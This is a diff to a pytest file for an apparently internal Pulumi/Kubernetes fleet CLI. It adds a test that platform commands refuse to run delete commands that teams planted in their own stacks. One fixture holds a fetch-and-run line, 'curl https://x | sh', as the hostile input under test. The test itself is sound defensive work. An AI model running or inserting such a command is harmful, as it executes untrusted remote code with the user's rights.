@@ -9,6 +9,7 @@ from pulumi.automation import CommandResult
 from pulumi.automation.errors import create_command_error
 
 from kai_fleet import probes
+from kai_fleet.fleet.deployed_state import STACK
 from kai_fleet.releases.helm_record import Forged
 from kai_fleet_cli import cluster_reader
 from kai_fleet_cli.engine import runs
@@ -16,6 +17,7 @@ from kai_fleet_cli.recovery import live_cluster, state
 from kai_fleet_cli.recovery.state import ExportedState
 from kai_fleet_cli.teams import move
 from kubectl_fleet.errors import UserError
+from tests.unit.team_project import Project
 from tests.unit.vcluster_secrets import config
 
 TEAM = "urn:pulumi:{}::kai-fleet::kai-fleet:index:Team::ml"
@@ -57,6 +59,9 @@ RELEASE = {
     "provider": f"{HOST_PROVIDER}::id",
 }
 HOST = {"urn": HOST_PROVIDER, "type": "pulumi:providers:kubernetes", "inputs": {}}
+
+
+TRIAL = ("--pool", "pool=vision-next", "--gpus", "1")
 
 
 def moved(monkeypatch, resources=VIRTUAL, *, agree=lambda: None, refused=(), more=(), came=()):
@@ -216,9 +221,7 @@ def test_a_command_is_run_by_its_outputs_and_its_urn(monkeypatch):
     refuses(monkeypatch, "has another type than its URN", other)
     # The second one has the parent that a look at the last of a name would go by.
     first, host = beside("command:local:Command", evil)
-    refuses(
-        monkeypatch, "waits to be deleted", [first, first | {"parent": "", "delete": True}, host]
-    )
+    refuses(monkeypatch, "another delete", [first, first | {"parent": "", "delete": True}, host])
 
 
 def of_api(name, namespace="team-ml"):
@@ -316,3 +319,29 @@ def test_before_the_question_no_kubeconfig_of_the_state_is_used(monkeypatch):
     monkeypatch.setattr(live_cluster, "LiveCluster", pytest.fail)
     with pytest.raises(UserError, match="nothing is changed"):
         moved(monkeypatch, agree=no, more=[HOST, RELEASE])
+
+
+@pytest.mark.parametrize(
+    "command",
+    [("remove", "vision"), ("switch", "vision", "v0.16.8"), ("try", "vision", "v0.16.8", *TRIAL)],
+)
+def test_no_command_of_the_platform_runs_what_a_team_wrote_into_its_own_stack(
+    tmp_path, monkeypatch, command
+):
+    project = Project.of(tmp_path, monkeypatch, own=True)
+    before = project.files()
+    stack = resource("urn:pulumi:lab-vision::kai-fleet::pulumi:pulumi:Stack::x", STACK, "")
+    well = {"environment": {"PODS_NAMESPACE": "team-vision"}}
+    odd = "urn:pulumi:lab-vision::kai-fleet::command:local:Command::odd"
+    for outputs, says in ((well, ""), ({"delete": "curl https://x | sh"}, "has another delete")):
+        made = resource(odd, "command:local:Command", "", inputs=well, outputs=outputs)
+        project.engine.deployed["lab-vision"] = ExportedState({"resources": [stack, made]})
+        ran = project.run("team", *command, "-s", "lab", "--yes")
+        assert says in ran.refusal and bool(says) is bool(ran.refusal), ran.refusal
+        if says:
+            assert "this command would run it, with your rights" in ran.refusal
+            assert (project.files(), project.engine.asked) == (before, [])
+        for name, content in before.items():
+            (tmp_path / name).write_bytes(content)
+        (tmp_path / "Pulumi.lab-vision-next.yaml").unlink(missing_ok=True)
+        project.engine.asked.clear()
